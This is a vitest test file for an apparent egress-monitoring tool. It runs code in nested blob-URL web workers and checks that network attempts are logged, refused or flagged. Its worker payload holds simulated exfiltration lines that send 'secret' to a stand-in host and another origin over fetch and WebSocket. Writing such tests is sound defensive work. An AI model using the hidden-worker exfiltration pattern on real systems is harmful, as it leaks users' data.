import { beforeAll, expect, test } from 'vitest';
import type { Attempt } from '../../../src/egress/ledger.ts';
import { hearNestedThreads } from '../../../src/egress/nested-threads.ts';
import { createWitness } from '../../../src/egress/witness.ts';

const attempts: Attempt[] = [];
/** Short: what no wall claims is written down after it. */
const claimLimitMs = 300;

beforeAll(() => {
  // Threads from memory inherit the policy of the page, so this page gets one: it leaves the tests' own server, by two names.
  const meta = document.createElement('meta');
  meta.httpEquiv = 'Content-Security-Policy';
  const own = [location.origin, location.origin.replace('http', 'ws'), elsewhere];
  meta.content = `connect-src ${own.join(' ')} ${elsewhere.replace('http', 'ws')}`;
  document.head.append(meta);
  const append = (attempt: Attempt): void => void attempts.push(attempt);
  hearNestedThreads({ witness: createWitness(append, claimLimitMs), append }, { context: 'engine' });
});

/** The tests' own server under its other name: another site. */
const elsewhere = location.origin.replace('127.0.0.1', 'localhost');

const memory = (code: string): string =>
  `URL.createObjectURL(new Blob([${JSON.stringify(code)}], { type: 'text/javascript' }))`;

/** Runs the code in a thread from memory, this many threads below the page. What the threads between say is kept apart. */
function runBelow(depth: number, type: WorkerType, code: string): { heard: unknown[]; end: () => void } {
  let text = code;
  for (let level = 1; level < depth; level += 1)
    text = `const thread = new Worker(${memory(text)}, { type: '${type}' });
      thread.onmessage = ({ data }) => postMessage({ heardByForeignCode: data });`;
  const thread = new Worker(URL.createObjectURL(new Blob([text])), { type });
  const heard: unknown[] = [];
  thread.addEventListener('message', ({ data }) => heard.push(data));
  return { heard, end: () => thread.terminate() };
}

const depths = [1, 2, 3].flatMap((depth) => (['classic', 'module'] as const).map((type) => [depth, type] as const));

test.for(depths)(
  '%i threads below, %s: what is sent, seen and refused comes out, and foreign code does not hear it',
  async ([depth, type]) => {
    attempts.length = 0;
    const { heard, end } = runBelow(
      depth,
      type,
      `fetch('${location.origin}/package.json', { cache: 'no-store', headers: { 'x-text': 'secret' } });
     fetch('https://nested.invalid/?d=secret').catch(() => {});
     new WebSocket('${elsewhere.replace('http', 'ws')}/?d=secret');
     const request = new XMLHttpRequest();
     request.open('GET', '${location.origin}/tsconfig.json?' + Math.random());
     request.send();`,
    );
    const found = (wanted: Partial<Attempt>): boolean =>
      attempts.some((attempt) =>
        Object.entries(wanted).every(([key, value]) => attempt[key as keyof Attempt] === value),
      );
    await expect.poll(() => found({ verdict: 'sent', channel: 'fetch', destination: location.origin })).toBe(true);
    await expect.poll(() => found({ verdict: 'sent', channel: 'xmlhttprequest' })).toBe(true);
    await expect
      .poll(() => found({ verdict: 'refused', channel: 'connect-src', destination: 'https://nested.invalid' }))
      .toBe(true);
    await expect.poll(() => found({ verdict: 'unexplained', channel: 'WebSocket' })).toBe(true);
    expect(attempts.every(({ context }) => context === 'engine')).toBe(true);
    expect(JSON.stringify(attempts)).not.toContain('secret');
    expect(heard).toEqual([]);
    end();
  },
);

test('a request is known of though its thread ended before the answer was whole', async () => {
  attempts.length = 0;
  const { heard, end } = runBelow(1, 'classic', `fetch('${location.origin}/package-lock.json'); postMessage('asked');`);
  await expect.poll(() => heard).toEqual(['asked']);
  end();
  await expect
    .poll(() => attempts.map(({ channel, verdict }) => `${channel} ${verdict}`))
    .toContain('fetch unexplained');
});

test('a thread’s own messages, of any form, reach whoever started it', async () => {
  const { heard, end } = runBelow(
    1,
    'classic',
    'for (const said of [null, undefined, 0, "text", { a: 1 }]) postMessage(said);',
  );
  await expect.poll(() => heard.length).toBe(5);
  expect(heard).toEqual([null, undefined, 0, 'text', { a: 1 }]);
  end();
});

test('an address that was given back starts nothing, as without the code before', async () => {
  const address = URL.createObjectURL(new Blob(['postMessage(1)']));
  URL.revokeObjectURL(address);
  const thread = new Worker(address);
  await new Promise((resolve) => thread.addEventListener('error', resolve));
});
